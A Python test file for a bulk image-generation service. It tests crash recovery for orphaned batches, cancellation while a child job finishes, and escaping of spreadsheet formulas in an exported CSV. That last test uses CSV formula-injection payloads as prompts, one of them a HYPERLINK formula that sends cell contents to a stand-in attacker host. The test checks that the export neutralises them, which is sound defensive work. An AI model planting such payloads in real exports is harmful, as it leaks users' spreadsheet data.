"""Bulk batches under faults: a crash between parent and children, a child ending during a cancel,
and spreadsheet formulas in the exported CSV."""

from __future__ import annotations

import csv
import io
import zipfile

from hollywool.bulk.service import ORPHAN_ERROR, BulkParams, csv_cell
from hollywool.jobs.models import JobStatus
from hollywool.jobs.store import NewJob, SqliteJobStore
from hollywool.settings import ServiceUrls, Settings
from hollywool.storage.db import Database
from tests.remote.fixtures import wait_until

MODEL = "fal:fal-ai/flux/schnell"


def _wait_batch(client, job_id, done, timeout=60):
    return wait_until(
        lambda: (v := client.get(f"/api/bulk/jobs/{job_id}").json())["status"] in done and v,
        timeout=timeout,
        what=f"batch {done}",
    )


def _fal_client(make_client, fal):
    client = make_client(services=ServiceUrls(fal=fal.url))
    assert client.put("/api/providers/fal", json={"api_key": fal.api_key}).status_code == 200
    return client


def test_a_batch_left_without_children_by_a_crash_ends_at_start_up_and_can_be_retried(
    studio_dirs, make_client, fast_remote, fal
):
    # A crash between the parent's insert and its children's (as before they were one transaction).
    settings = Settings.from_env(**studio_dirs)
    settings.ensure_dirs()
    db = Database(settings.db_path)
    params = BulkParams(model=MODEL, child_kind="remote", prompts=["a fox", "a hen", "a cat"], width=256, height=256)
    (orphan,) = SqliteJobStore(db).create([NewJob(kind="bulk", lane="net:bulk", params=params.model_dump())])
    db.close()

    client = _fal_client(make_client, fal)  # the studio starts on that data folder
    parent = wait_until(lambda: (j := client.get(f"/api/jobs/{orphan.id}").json())["status"] != "queued" and j)
    assert parent["status"] == "failed" and parent["error"] == ORPHAN_ERROR
    assert client.get(f"/api/bulk/jobs/{orphan.id}").json()["status"] == "failed"
    # Retrying the batch queues its prompts.
    assert client.post(f"/api/bulk/jobs/{orphan.id}/retry").status_code == 200
    view = _wait_batch(client, orphan.id, ("completed", "failed"))
    assert (view["status"], view["completed"], view["total"]) == ("completed", 3, 3)
    assert [i["prompt"] for i in view["items"]] == ["a fox", "a hen", "a cat"]
    wait_until(lambda: client.get(f"/api/jobs/{orphan.id}").json()["status"] == "completed", what="the parent")


def test_cancelling_a_batch_while_a_child_finishes_cancels_all_the_others(make_client, fast_remote, fal):
    client = _fal_client(make_client, fal)
    fal.queue_polls = 100_000
    studio = client.app.state.studio
    prompts = [f"prompt {n}" for n in range(10)]
    job_id = client.post("/api/bulk/jobs", json={"prompts": prompts, "model": MODEL}).json()["job_id"]
    wait_until(lambda: len(fal.submissions) >= 8, what="the first children to be submitted")

    real = studio.jobs.store
    finished: list[str] = []

    class ChildEndsDuringCancel:  # a running child completes right after the cancel listed it
        def __getattr__(self, name):  # noqa: ANN001, ANN204
            return getattr(real, name)

        def list(self, query):  # noqa: ANN001, ANN202
            jobs, total = real.list(query)
            if query.parent_id == job_id and query.status and not finished:
                child = next(j for j in jobs if j.status == JobStatus.running)
                assert real.complete(child.id, {}) is not None
                finished.append(child.id)
            return jobs, total

    studio.jobs.store = ChildEndsDuringCancel()
    try:
        r = client.post(f"/api/bulk/jobs/{job_id}/cancel")
    finally:
        studio.jobs.store = real
    assert r.status_code == 200, r.text
    assert finished
    view = _wait_batch(client, job_id, ("cancelled", "completed"))
    assert (view["completed"], view["cancelled"], view["queued"], view["running"]) == (1, 9, 0, 0)
    assert len(fal.submissions) == 8  # the two queued children never ran


def test_the_export_csv_cannot_carry_spreadsheet_formulas(make_client, fast_remote, fal):
    client = _fal_client(make_client, fal)
    prompts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1 cats", "-2 dogs", "@SUM(A1:A9)", "a plain one"]
    job_id = client.post("/api/bulk/jobs", json={"prompts": prompts, "model": MODEL}).json()["job_id"]
    assert _wait_batch(client, job_id, ("completed", "failed"))["status"] == "completed"
    zf = zipfile.ZipFile(io.BytesIO(client.get(f"/api/bulk/jobs/{job_id}/export").content))
    rows = list(csv.DictReader(io.StringIO(zf.read("prompts.csv").decode())))
    assert [r["prompt"] for r in rows] == ["'" + p for p in prompts[:4]] + ["a plain one"]
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    # Cells other than prompts (errors, parameters) go through the same escape.
    assert [csv_cell(v) for v in ("\tx", "\rx", "=1", "ok", 5, -1.5)] == ["'\tx", "'\rx", "'=1", "ok", 5, -1.5]
